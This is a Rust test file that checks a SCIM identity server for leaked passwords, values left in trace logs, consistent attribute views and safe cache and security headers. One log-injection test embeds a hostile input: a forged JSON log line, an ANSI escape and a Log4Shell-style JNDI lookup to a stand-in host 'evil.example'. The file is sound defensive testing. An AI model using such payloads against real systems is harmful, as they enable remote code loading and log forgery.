//! What must not come out: passwords, tokens, values in logs, the inside of the server in errors (threats B01 to B03,
//! B07, B08, B11, C13).

use conformance_tests::answer::Answer;
use conformance_tests::http::encode;
use conformance_tests::session::{ENTERPRISE, GROUP, Session, patch_op, user};
use scim_core::access::{Client, Profile};
use serde_json::{Value, json};

use crate::support::{Server, TOKEN, client_error};

const PASSWORD: &str = "Canary-Pa55word-9QZ";

/// Threat B01: no filter, no sort and no path tells anything of a password, set or not.
#[test]
fn passwords_cannot_be_asked_for() {
    for profile in [Profile::Compatible, Profile::Strict, Profile::Named(Client::Entra)] {
        let server = Server::start();
        let session = server.tenant(profile);
        let with = session.user(json!({"userName": "with", "password": PASSWORD})).unwrap().id().unwrap().to_owned();
        session.user(json!({"userName": "without"})).unwrap();
        let full = "urn:ietf:params:scim:schemas:core:2.0:User:password";
        for name in ["password", "PassWord", full] {
            for term in [
                "pr", "eq \"x\"", "ne \"x\"", "sw \"C\"", "ew \"Z\"", "co \"a\"", "gt \"A\"", "ge \"A\"", "lt \"z\"",
                "le \"z\"", "eq null",
            ] {
                for filter in [
                    format!("{name} {term}"),
                    format!("not ({name} {term})"),
                    format!("userName pr and {name} {term}"),
                    format!("userName eq \"none\" or ({name} {term})"),
                ] {
                    client_error(session.filter("/Users", &filter).unwrap().is_one_of(&[400, 403]).unwrap());
                    client_error(session.search("/Users/.search", json!({"filter": filter})).unwrap().is(400).unwrap());
                    client_error(session.search("/.search", json!({"filter": filter})).unwrap().is(400).unwrap());
                }
            }
            let sorted = session.get(&format!("/Users?sortBy={name}")).unwrap();
            assert!(sorted.status == 400 || sorted.ids() == session.get("/Users").unwrap().ids(), "{}", sorted.tell());
            for view in [
                format!("attributes={name}"),
                format!("attributes=id,{name}"),
                format!("excludedAttributes={name}"),
                format!("attributes={name}.value"),
            ] {
                for path in ["/Users".to_owned(), format!("/Users/{with}")] {
                    let shown = session.get(&format!("{path}?{view}")).unwrap();
                    hidden(&shown);
                }
            }
        }
    }
}

fn hidden(answer: &Answer) {
    answer.hides(PASSWORD).unwrap().hides("$argon2").unwrap();
    let text = String::from_utf8_lossy(&answer.raw).to_lowercase();
    assert!(!text.contains("\"password\":"), "{}", answer.tell());
}

/// Threat B02: no answer to any write shows it.
#[test]
fn no_answer_shows_a_password() {
    let server = Server::start();
    let session = server.session();
    let body = user(json!({"userName": "w", "password": PASSWORD}));
    let made = session.post("/Users?attributes=password,userName", &body).unwrap().is(201).unwrap();
    hidden(&made);
    let path = format!("/Users/{}", made.id().unwrap());
    hidden(&session.put(&format!("{path}?attributes=password"), &body).unwrap().is(200).unwrap());
    for operation in [
        json!({"op": "replace", "path": "password", "value": PASSWORD}),
        json!({"op": "add", "value": {"password": PASSWORD}}),
        json!({"op": "remove", "path": "password"}),
    ] {
        let whole = session
            .request("PATCH", &path)
            .header("Prefer", "return=representation")
            .json(&patch_op(json!([operation])))
            .send()
            .unwrap();
        assert!(whole.status < 300, "{}", whole.tell());
        hidden(&whole);
    }
    let bulk = session.bulk(json!([
        {"method": "POST", "path": "/Users", "bulkId": "a", "data": user(json!({"password": PASSWORD}))},
        {"method": "POST", "path": "/Users", "bulkId": "b", "data": user(json!({"userName": "w", "password": PASSWORD}))},
        {"method": "PATCH", "path": path, "data": patch_op(json!([{"op": "replace", "path": "password.x", "value": PASSWORD}]))},
    ]));
    hidden(&bulk.unwrap().is(200).unwrap());
    for wrong in [
        json!([PASSWORD]),
        json!({"value": PASSWORD}),
        json!(format!("{PASSWORD}\u{0007}")),
        json!(PASSWORD.repeat(200)),
    ] {
        let refused = session.post("/Users", &user(json!({"password": wrong}))).unwrap();
        if refused.status != 201 {
            client_error(refused.clone());
        }
        hidden(&refused);
    }
}

/// Threat B07: a canary in every place where a client can put one, and the log at its most talkative.
#[test]
fn logs_at_trace_hold_no_values() {
    for format in ["text", "json"] {
        let mut server = Server::with(&[("SCIM__LOG__LEVEL", "trace"), ("SCIM__LOG__FORMAT", format)]);
        let session = server.session();
        let mut canaries = Vec::new();
        let mut canary = || {
            canaries.push(format!("canary{}zq", canaries.len()));
            canaries.last().unwrap().clone()
        };
        let made = session.user(json!({
            "userName": canary(), "password": canary(), "displayName": canary(), "externalId": canary(), "title": canary(),
            "emails": [{"value": format!("{}@example.com", canary()), "type": canary()}], "name": {"familyName": canary()}, canary(): canary(),
            ENTERPRISE: {"employeeNumber": canary()},
        })).unwrap();
        let path = format!("/Users/{}", made.id().unwrap());
        let any = |answer: anyhow::Result<Answer>| drop(answer.unwrap());
        any(session.post("/Users", &user(json!({"userName": canary(), "emails": canary()}))));
        any(session.post("/Users", &user(json!({"userName": made.text("/userName"), "title": canary()}))));
        any(session
            .post("/Groups", &json!({"schemas": [GROUP], "displayName": canary(), "members": [{"value": canary()}]})));
        any(session
            .request("POST", "/Users")
            .header("Content-Type", "application/json")
            .bytes(format!("{{\"userName\":\"{}\"", canary()))
            .send());
        any(session.patch(
            &path,
            json!([{"op": "replace", "path": format!("emails[value eq \"{}\"].value", canary()), "value": canary()}]),
        ));
        any(session.patch(&path, json!([{"op": canary(), "path": canary(), "value": canary()}])));
        any(session.put(&path, &user(json!({"userName": canary(), "password": canary()}))));
        for filter in [
            "userName eq \"C\"",
            "userName co \"C\"",
            "C eq \"x\"",
            "userName C",
            "not (title sw \"C\")",
            "password eq \"C\"",
            "emails[type eq \"C\" and value pr]",
        ] {
            any(session.filter("/Users", &filter.replace('C', &canary())));
            any(session.search("/.search", json!({"filter": filter.replace('C', &canary()), "sortBy": canary()})));
        }
        any(session.get(&format!(
            "/Users?{}={}&sortBy={}&attributes={}&cursor={}",
            canary(),
            canary(),
            canary(),
            canary(),
            canary()
        )));
        any(session.get(&format!("/Users/{}", canary())));
        any(session.get(&format!("/{}", canary())));
        any(session.get(&format!("/Schemas/{}", canary())));
        any(session.bulk(json!([{"method": "POST", "path": "/Users", "bulkId": canary(), "data": user(json!({"userName": canary(), "password": canary()}))}])));
        any(session.with_token(&format!("{}-of-more-than-thirty-two-letters", canary())).get("/Users"));
        any(session
            .request("GET", "/Users")
            .header("Cookie", &canary())
            .header("X-Custom", &canary())
            .header("If-Match", &format!("\"{}\"", canary()))
            .header("User-Agent", &canary())
            .send());
        any(session
            .request("GET", "/Users")
            .header("X-Request-Id", &canary())
            .header("Authorization", &format!("Basic {}", canary()))
            .send());
        any(session.request(&canary().to_uppercase(), "/Users").send());
        any(session.delete(&path));
        server.stop();
        let log = server.log();
        assert!(log.lines().count() > 30, "this is not the log at trace: {log}");
        for canary in canaries.iter().map(String::as_str).chain([TOKEN]) {
            let line = log.lines().find(|line| line.to_lowercase().contains(canary));
            assert!(line.is_none(), "{canary} stands in {line:?}");
        }
    }
}

/// Threat C13: whatever a client sends, a line of the log is a line of the log.
#[test]
fn nobody_writes_lines_into_the_log() {
    let mut server = Server::with(&[("SCIM__LOG__LEVEL", "debug"), ("SCIM__LOG__FORMAT", "json")]);
    let session = server.session();
    let forged = "x\n{\"level\":\"ERROR\",\"message\":\"forged\"}\u{1b}[31m${jndi:ldap://evil.example/a}";
    let _ = session.post("/Users", &user(json!({"userName": forged})));
    let _ = session.filter("/Users", &format!("userName eq \"{}\"", forged.replace('"', "'")));
    let _ = session.get(&format!("/Users/{}", encode(forged)));
    let _ = session.get(&format!("/{}", encode(forged)));
    server.stop();
    for line in server.log().lines() {
        let parsed: Result<Value, _> = serde_json::from_str(line);
        assert!(parsed.is_ok(), "{line}");
        assert!(!line.contains("forged") && !line.contains("jndi") && !line.contains('\u{1b}'), "{line}");
    }
}

/// Threat B03: what a view leaves out is left out on every way.
#[test]
fn every_way_shows_the_same_of_a_resource() {
    let server = Server::start();
    let session = server.session();
    let made =
        session.user(json!({"title": "Canary", "displayName": "D", ENTERPRISE: {"costCenter": "Canary"}})).unwrap();
    let id = made.id().unwrap();
    let path = format!("/Users/{id}");
    let body = user(
        json!({"userName": made.at("/userName"), "title": "Canary", "displayName": "D", ENTERPRISE: {"costCenter": "Canary"}}),
    );
    let touch = patch_op(json!([{"op": "replace", "path": "nickName", "value": "n"}]));
    for view in [
        "attributes=displayName".to_owned(),
        format!("excludedAttributes=title,{ENTERPRISE}:costCenter"),
        format!("excludedAttributes=TITLE,{ENTERPRISE}"),
        format!("attributes={}", encode("urn:ietf:params:scim:schemas:core:2.0:User:displayName")),
    ] {
        let shown = [
            session.get(&format!("{path}?{view}")),
            session.get(&format!("/Users?{view}")),
            session.get(&format!("/?{view}")),
            session.get(&format!("/Users?{view}&filter={}", encode("title eq \"Canary\""))),
            session.get(&format!("/Users?{view}&cursor=")),
            session.put(&format!("{path}?{view}"), &body),
            session.request("PATCH", &format!("{path}?{view}")).json(&touch).send(),
            session.post(
                &format!("/Users?{view}"),
                &user(json!({"title": "Canary", "displayName": "D", ENTERPRISE: {"costCenter": "Canary"}})),
            ),
        ];
        for answer in shown {
            let answer = answer.unwrap();
            assert!(answer.status < 300, "{}", answer.tell());
            answer.hides("Canary").unwrap();
            assert!(String::from_utf8_lossy(&answer.raw).contains("\"D\""), "{}", answer.tell());
        }
    }
}

/// Threat B11: no cache keeps what it should not, and no browser guesses what it is.
#[test]
fn every_answer_says_how_it_may_be_kept() {
    let server = Server::start();
    let session = server.session();
    let path = format!("/Users/{}", session.user(json!({})).unwrap().id().unwrap());
    let check = |session: &Session, path: &str| {
        let answer = session.get(path).unwrap();
        let cache = answer.must_header("cache-control").unwrap();
        if path == "/ServiceProviderConfig" {
            assert!(cache.contains("public"), "{}: {cache}", answer.tell());
        } else {
            assert_eq!(cache, "no-store", "{}", answer.tell());
            assert!(answer.must_header("vary").unwrap().contains("Authorization"), "{}", answer.tell());
        }
        assert_eq!(answer.must_header("x-content-type-options").unwrap(), "nosniff");
        assert!(answer.header("access-control-allow-origin").is_none() && answer.header("set-cookie").is_none());
        assert!(answer.header("server").is_none() && answer.header("x-powered-by").is_none());
    };
    for path in [
        "/",
        "/Users",
        &path,
        "/Groups",
        "/Me",
        "/Schemas",
        "/ResourceTypes",
        "/ServiceProviderConfig",
        "/Nothing",
        "/Users/nobody",
        "/Users?filter=x",
    ] {
        check(&session, path);
        if path != "/ServiceProviderConfig" {
            check(&session.with_token("wrong-token-of-more-than-thirty-two-letters"), path);
        }
    }
}
